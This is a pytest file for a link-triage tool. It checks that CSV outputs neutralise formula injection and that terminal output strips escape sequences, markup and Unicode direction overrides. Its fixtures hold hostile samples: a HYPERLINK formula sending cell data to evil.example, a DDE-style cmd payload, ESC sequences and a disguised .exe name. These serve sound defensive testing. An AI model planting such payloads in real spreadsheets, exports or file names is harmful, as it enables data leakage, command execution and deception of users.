"""Text from exports and pages, which anyone can write, in the places a person reads it: a spreadsheet opening the
CSV (formula injection) and the terminal (markup, ESC sequences, line breaks)."""

from __future__ import annotations

import csv
import json

import pytest
from test_cli import run_process

from linktriage.output import open_writer, write_domain_view

FORMULAS = {
    "=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")": "'=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")",
    "@SUM(1+1)": "'@SUM(1+1)",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "best trail shoes": "best trail shoes",
    "-5": "-5",  # a number written as text: no spreadsheet runs it
    "a=b": "a=b",
}


@pytest.fixture
def hostile_export(tmp_path):
    path = tmp_path / "export.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["source_url", "target_url", "anchor", "Notes"])
        for i, anchor in enumerate(FORMULAS):
            writer.writerow([f"https://site{i}.example/post", "https://shop.example/", anchor, f"=A{i}*2"])
    return path


def _csv_rows(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path, hostile_export):
    out, raw, jsonl = tmp_path / "o.csv", tmp_path / "raw.csv", tmp_path / "o.jsonl"
    for args in ((out,), (raw, "--raw-csv"), (jsonl,)):
        result = run_process("score", hostile_export, "--offline", "-o", *args)
        assert result.returncode == 0, result.stderr
    rows = _csv_rows(out)
    assert [r["anchor"] for r in rows] == list(FORMULAS.values())
    assert {r["export_notes"][:2] for r in rows} == {"'="}
    assert all(r["source_url"].startswith("https://") and r["link_status"] == "not_fetched" for r in rows)
    # Read back (a reviewed scored.csv given to `train`, or a vendor export guarded the same way), an anchor is
    # the text after the guard.
    from linktriage.ingest import read_exports
    assert [b.anchor for b in read_exports([str(out)])] == list(FORMULAS)
    # --raw-csv and JSONL keep the values exactly as read.
    assert [r["anchor"] for r in _csv_rows(raw)] == list(FORMULAS)
    assert [json.loads(line)["anchor"] for line in jsonl.read_text(encoding="utf-8").splitlines()] == list(FORMULAS)


def test_leading_blanks_do_not_hide_a_formula(tmp_path):
    # The export reader strips cells, but anchors found on pages and other writers' rows may start with blanks:
    # spreadsheets skip them before deciding that a cell is a formula.
    path = tmp_path / "o.csv"
    with open_writer(path) as writer:
        writer.write([{"anchor": text} for text in ("\t=1+2", "\u00a0=1+2", "  @x", "\r+A1", "  5", " -5")])
    assert [r["anchor"] for r in _csv_rows(path)] == ["'\t=1+2", "'\u00a0=1+2", "'  @x", "'\r+A1", "  5", " -5"]


def test_domain_view_csv_is_neutralised_too(tmp_path):
    path = tmp_path / "domains.csv"
    write_domain_view([{"source_domain": "=cmd.example", "links": 2}], path)
    (row,) = _csv_rows(path)  # (the view's other columns are there, empty)
    assert (row["source_domain"], row["links"]) == ("'=cmd.example", "2")
    write_domain_view([{"source_domain": "=cmd.example", "links": 2}], path, escape_formulas=False)
    assert _csv_rows(path)[0]["source_domain"] == "=cmd.example"


def test_the_table_shows_urls_as_they_are_without_markup_or_terminal_controls(tmp_path):
    export = tmp_path / "export.csv"
    export.write_text("source_url,target_url\n"
                      "http://evil.example/[/]x\x1b]0;pwned\x07[bold]y,https://shop.example/\n", encoding="utf-8")
    result = run_process("score", export, "--offline", "-o", tmp_path / "o.csv", "--table")
    assert result.returncode == 0, result.stderr  # rich read "[/]" as a closing tag: MarkupError, exit 1
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert "http://evil.example/[/]x" in result.stderr and "[bold]y" in result.stderr
    assert "1 row: not_fetched 1" in result.stderr


def test_error_lines_stay_one_line_without_terminal_controls(tmp_path):
    missing = tmp_path / "exports\n\x1b[2Jlinktriage: 0 rows.csv"  # a file name can hold any of them
    result = run_process("score", missing, "--offline")
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1 and result.stderr.startswith("linktriage: error:")
    assert "\x1b" not in result.stderr


def test_the_table_keeps_direction_overrides_and_unicode_line_breaks_out(tmp_path):
    """U+202E showed "https://example.com/\u202efdp.exe/abc" as a .pdf link, and U+2028 in a URL broke the table's
    line (its right border moved)."""
    export = tmp_path / "export.csv"
    export.write_text("source_url,target_url\nhttps://example.com/\u202efdp.exe/abc,https://shop.example/\n"
                      "https://example.org/a\u2028b,https://shop.example/\n", encoding="utf-8")
    result = run_process("score", export, "--offline", "-o", tmp_path / "o.csv", "--table")
    assert result.returncode == 0, result.stderr
    assert not {"\u202e", "\u2028"} & set(result.stderr) and "fdp.exe" in result.stderr
